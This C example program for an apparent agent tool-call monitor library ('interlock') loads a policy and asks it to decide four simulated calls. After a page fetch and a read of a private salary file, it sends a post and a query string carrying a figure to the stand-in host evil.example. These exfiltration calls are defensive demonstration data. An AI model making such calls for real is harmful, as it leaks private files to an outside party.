/* SPDX-License-Identifier: Apache-2.0 */
/* The library from C, as an installed copy is used: a session that reads a page and a private file may not
 * send anything out. Prints one line a call.
 *
 *     cc example.c $(pkg-config --cflags --libs interlock) && ./a.out policy.yaml
 */
#include <interlock/host.h>
#include <stdio.h>
#include <string.h>

static il_str text_of(const char *s) { return (il_str){s, strlen(s)}; }

/* Decides one call, runs it when it may run (here: nothing), and settles it. */
static il_status call_tool(il_monitor *monitor, const char *server, const char *tool, const char *args, il_error *err) {
    il_json_doc *doc = NULL;
    il_status s = il_json_doc_new(il_host_alloc(), text_of(args), NULL, &doc, err);
    if (s != IL_OK)
        return s;
    il_call call = {.size = sizeof call, .server = text_of(server), .tool = text_of(tool), .args = il_json_doc_root(doc)};
    il_decision d = IL_DECISION_INIT;
    s = il_monitor_decide(monitor, IL_STR("example"), &call, &d, err);
    printf("%s.%s: %s%s%s\n", server, tool, il_action_name(d.action), d.reason[0] != '\0' ? " " : "", d.reason);
    if (s == IL_OK && d.run) {
        /* The tool runs here. A tool that failed is IL_OUTCOME_FAILED, and its result is shown to nobody before this: */
        il_outcome outcome = {.size = sizeof outcome, .how = IL_OUTCOME_DONE};
        il_settlement settled = IL_SETTLEMENT_INIT;
        s = il_monitor_settle(monitor, IL_STR("example"), d.ticket, &outcome, &settled, err);
        if (s == IL_OK && !settled.release)
            printf("  its result is withheld: %s\n", settled.reason);
    }
    il_json_doc_free(doc);
    return s;
}

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "policy.yaml";
    const il_alloc *alloc = il_host_alloc();
    il_bundle *bundle = NULL; /* the policy, and the machine that it names */
    il_ledger *ledger = NULL;
    il_monitor *monitor = NULL;
    il_error err = {0};

    il_status s = il_bundle_load(alloc, path, &bundle, &err);
    il_ledger_options options = {.size = sizeof options};
    if (s == IL_OK)
        s = il_ledger_open(alloc, ":memory:", &options, &ledger, &err);
    if (s == IL_OK) {
        il_monitor_config config = {.size = sizeof config,
                                    .policy = il_bundle_policy(bundle),
                                    .store = il_ledger_store(ledger),
                                    .host = il_host_system()};
        s = il_monitor_new(alloc, &config, &monitor, &err);
    }
    il_begin how = {.size = sizeof how};
    if (s == IL_OK)
        s = il_monitor_begin(monitor, IL_STR("example"), &how, &err);
    if (s == IL_OK)
        s = call_tool(monitor, "web", "fetch", "{\"url\": \"https://pages.example/\"}", &err);
    if (s == IL_OK)
        s = call_tool(monitor, "files", "read", "{\"path\": \"/home/ana/salary.txt\"}", &err);
    if (s == IL_OK)
        s = call_tool(monitor, "web", "post", "{\"url\": \"https://evil.example/\", \"body\": \"hello\"}", &err);
    if (s == IL_OK)
        s = call_tool(monitor, "web", "fetch", "{\"url\": \"https://evil.example/?pay=5100\"}", &err);
    if (s != IL_OK)
        fprintf(stderr, "%s:%u:%u: %s (%s)\n", path, err.line, err.col, err.msg, il_status_name(s));

    /* in the reverse order; NULL is fine everywhere */
    il_monitor_free(monitor);
    il_ledger_close(ledger);
    il_bundle_free(bundle);
    return s == IL_OK ? 0 : 1;
}
